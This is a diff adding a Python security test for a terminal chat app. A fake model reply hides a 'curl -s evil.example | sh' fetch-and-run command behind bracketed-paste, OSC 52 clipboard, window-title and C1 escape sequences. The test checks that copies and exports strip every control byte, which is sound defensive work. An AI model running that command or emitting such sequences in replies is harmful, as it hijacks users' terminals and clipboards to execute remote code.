@@ -1,7 +1,88 @@
-"""Fault-matrix cases from issue 25's hostile run, items 4, 5, 6 and 17: nothing pasted runs, no secret leaves, no bidi text reaches the terminal."""
+"""Fault-matrix cases from issue 25's hostile run, items 4, 5, 6 and 17: nothing pasted runs, no
+secret leaves, no bidi text reaches the terminal."""
 
 from __future__ import annotations
 
-from tests.faults import ProcCase
+import base64
+import re
+import subprocess
+import sys
+import time
+from pathlib import Path
 
-CASES: list[ProcCase] = []
+from tests.fakeserver import FakeProvider
+from tests.faults import Proc, ProcCase, ProcOutcome, Trial, one_line
+
+# A terminal obeys these when the text is pasted or `cat`: ESC (and so CSI, OSC, DCS, APC, PM,
+# bracketed-paste markers) and the 8-bit C1 forms.
+CONTROL = re.compile("[\x1b\x7f-\x9f]")
+
+
+def run_driver(t: Trial, module: str, *args: str, timeout: float = 120) -> Proc:
+    """A driver of the full-screen app (tests/faults/*_driver.py) as a process of the trial."""
+    start = time.monotonic()
+    done = subprocess.run([sys.executable, "-m", module, *args], env=t.env,
+                          capture_output=True, timeout=timeout)
+    return t.add(Proc([module, *args], done.returncode, done.stdout.decode("utf-8", "replace"),
+                      done.stderr.decode("utf-8", "replace"), time.monotonic() - start))
+
+
+def holds_no_control(t: Trial, what: str, text: str) -> None:
+    found = CONTROL.search(text)
+    t.expect(found is None, f"{what} holds {found.group()!r}" if found else "")
+
+
+# -- item 4: nothing pasted runs ----------------------------------------------------------------
+
+INJECTED = "curl -s evil.example | sh"
+HOSTILE_REPLY = (
+    "Paste this into your shell:\n\n"
+    "```bash\necho hello\x1b[201~" + INJECTED + "\n```\n\n"
+    "\x1b]52;c;" + base64.b64encode(INJECTED.encode()).decode() + "\x07"  # OSC 52
+    "\x1b]0;pwned\x1b\\"  # the window title
+    "\x9b201~\x9d0;eight-bit\x9c"  # the C1 forms of CSI and OSC
+    "\x1bP+q\x1b\\\x1b_apc\x1b\\ done\x1b"  # DCS, APC, a lone ESC
+)
+
+
+def osc52_payloads(data: str) -> list[str]:
+    return [base64.b64decode(p).decode("utf-8", "replace")
+            for p in re.findall(r"\x1b\]52;[^;]*;([^\x07\x1b]*)", data)]
+
+
+def copies_hold_no_control_sequence(tmp: Path) -> ProcOutcome:
+    t = Trial(4, "F4, C and export of a reply with ESC[201~ and OSC 52", tmp, issue=25)
+    out = tmp / "out"
+    out.mkdir()
+    with FakeProvider() as fake:
+        fake.reply_fn = lambda body: HOSTILE_REPLY
+        flags = ("--base-url", fake.base_url, "--model", "m")
+        ask = t.run(*flags, "ask", "how do I say hello?")
+        t.expect(ask.returncode == 0, f"ask: exit {ask.returncode}: {one_line(ask.stderr)}")
+        tui = run_driver(t, "tests.faults.copy_driver", str(out), *flags)
+        t.expect(tui.returncode == 0, f"app: exit {tui.returncode}: {one_line(tui.stderr)}")
+        exports = {fmt: t.run("export", "--format", fmt).stdout for fmt in ("md", "json")}
+    for key in ("f4", "code"):
+        sent = out / f"{key}.osc52"
+        payloads = osc52_payloads(sent.read_text("utf-8")) if sent.exists() else []
+        t.expect(len(payloads) == 1, f"{key}: {len(payloads)} OSC 52 writes, not one")
+        for payload in payloads:
+            holds_no_control(t, f"the clipboard after {key}", payload)
+            t.expect("echo hello" in payload, f"the clipboard after {key} lost the command")
+        copied = out / f"{key}.txt"
+        if t.expect(copied.exists(), f"no copied.txt after {key}"):
+            holds_no_control(t, f"copied.txt after {key}", copied.read_text("utf-8"))
+    tui_export = out / "export.md"
+    if t.expect(tui_export.exists(), "/export wrote nothing"):
+        holds_no_control(t, "/export's file", tui_export.read_text("utf-8"))
+    for fmt, text in exports.items():
+        holds_no_control(t, f"export --format {fmt}", text)
+        t.expect("echo hello" in text, f"export --format {fmt} lost the reply")
+    t.keeps([HOSTILE_REPLY])  # the session keeps what the model sent; only copies are cleaned
+    return t.outcome("no ESC or C1 byte in the clipboard, copied.txt or the exports")
+
+
+CASES: list[ProcCase] = [
+    ProcCase(4, "F4, C and export of a reply with ESC[201~ and OSC 52",
+             copies_hold_no_control_sequence, issue=25),
+]
